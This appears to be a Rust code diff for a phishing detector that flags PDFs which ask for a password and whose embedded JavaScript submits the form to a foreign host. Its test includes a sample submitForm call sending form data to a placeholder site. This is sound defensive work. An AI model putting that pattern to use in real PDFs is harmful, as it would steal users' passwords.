@@ -1,7 +1,7 @@
 //! A form in a PDF that asks for a password and sends it to a site.
 
 use super::{Check, Heuristic};
-use crate::artifact::{Fact, Tree};
+use crate::artifact::{Artifact, Fact, Tree};
 use crate::detect::Strength;
 use crate::detect::outside::Place;
 
@@ -27,10 +27,24 @@ fn check(tree: &Tree, hit: &mut Check) {
             }
             _ => None,
         });
-        if let Some(target) = sends.filter(|_| asks) {
-            hit(pdf.id, target.clone());
+        if let Some(target) =
+            sends.cloned().filter(|_| asks).or_else(|| by_script(tree, pdf).filter(|_| asks))
+        {
+            hit(pdf.id, target);
         }
     }
+}
+
+/// Where a script of the PDF sends its form.
+fn by_script(tree: &Tree, pdf: &Artifact) -> Option<String> {
+    let scripts = tree.children(pdf.id).filter(|child| child.via == "part" && child.kind.id == "js");
+    let mut texts = scripts.map(|script| String::from_utf8_lossy(&script.bytes).into_owned());
+    texts.find_map(|text| {
+        let at = text.to_ascii_lowercase().find("submitform(")?;
+        let behind = text.get(at..)?;
+        let address = behind.get(behind.find("http")?..)?.split(['"', '\'', ')', ' ']).next()?;
+        Place::of(address).is_foreign().then(|| address.to_string())
+    })
 }
 
 #[cfg(test)]
@@ -53,6 +67,25 @@ mod tests {
             let mut count = 0;
             check(&tree, &mut |_, _| count += 1);
             assert_eq!(count, want);
+        }
+    }
+
+    #[test]
+    fn a_script_may_send_them() {
+        for (script, want) in [
+            ("this.submitForm({cURL: \"https://a.example/p.php\", cSubmitAs: \"HTML\"});", 1),
+            ("this.submitForm('mailto:desk@a.example');", 0),
+            ("app.alert('https://a.example/');", 0),
+        ] {
+            let asks = Fact::Trick { what: "pdf-password-field", detail: "pw".into() };
+            let mut tree = Tree::new(Child::new("a.pdf", "attachment", b"%PDF-1.4".to_vec()).with(asks));
+            tree.add(
+                Some(0),
+                Child::new("javascript-1.js", "part", script.as_bytes().to_vec()).of_kind("js"),
+            );
+            let mut count = 0;
+            check(&tree, &mut |_, _| count += 1);
+            assert_eq!(count, want, "{script}");
         }
     }
 }
